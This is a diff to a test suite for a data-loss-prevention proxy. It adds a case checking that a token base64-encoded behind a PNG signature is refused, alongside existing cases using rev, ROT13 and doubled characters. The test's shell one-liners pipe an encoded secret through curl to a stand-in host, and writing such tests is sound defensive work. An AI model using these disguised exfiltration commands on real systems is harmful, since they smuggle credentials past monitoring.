@@ -318,6 +318,9 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         const blocked = (await log()).filter((e) =>
           e.action === "dlp-block" && String(e.path).endsWith("/git-receive-pack")
         );
+        // The log writes refusals to one host one by one up to 20 a minute (`BURST`), then
+        // counts them: the steps before this one must stay under that, or one of these six
+        // is only counted (a request added to an earlier step had made this 5).
         assert.equal(blocked.length, 6);
         for (const e of blocked) {
           // A name cut at a slash is found joined.
@@ -344,7 +347,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
     });
 
     await t.step(
-      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`) or doubled, in a body or a path's segment, is refused",
+      "a token turned around for whoever receives it to turn back (`rev`, ROT13, both, base64 then `rev`), doubled, or in base64 behind a file's signature, in a body or a path's segment, is refused",
       async () => {
         const turned = await sh(
           `printf %s '${token}' | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
@@ -358,7 +361,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             `printf 'TOKEN=%s\\n' '${token}' | base64 -w0 | rev | curl -sS -o /tmp/refused -w '%{http_code}' ` +
             "--data-binary @- https://plain.fake.test/v1/b64rev; echo; cat /tmp/refused; echo; " +
             `printf %s '${token}' | sed 's/./&&/g' | curl -sS -o /tmp/refused -w '%{http_code}' ` +
-            "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused",
+            "--data-binary @- https://plain.fake.test/v1/doubled; echo; cat /tmp/refused; echo; " +
+            // Behind a PNG's signature, which shifts base64's groups of four.
+            `{ printf iVBORw0KGgo; printf 'TOKEN=%s\\n' '${token}' | base64 -w0; } | ` +
+            "curl -sS -o /tmp/refused -w '%{http_code}' --data-binary @- https://plain.fake.test/v1/png; echo; cat /tmp/refused",
         );
         assert.match(
           turned.stdout,
@@ -371,9 +377,10 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
         assert.match(turned.stdout, /\n403\n.*in the body, reversed and in ROT13/);
         assert.match(turned.stdout, /\n403\n.*in the body, in base64, reversed/);
         assert.match(turned.stdout, /\n403\n.*in the body, each character doubled/);
+        assert.match(turned.stdout, /\n403\n.*in the body, base64-encoded/);
         assert.equal(
           turned.stdout.match(/^403$/gm)?.length,
-          6,
+          7,
           `each is refused: ${turned.stdout}`,
         );
         const reversed = [...token].reverse().join("");
@@ -385,6 +392,7 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
             `/v1/p/${reversed}/x`,
             "/v1/b64rev",
             "/v1/doubled",
+            "/v1/png",
           ]
         ) {
           assert.ok(!(await reached(path)), `nothing reached ${path}`);
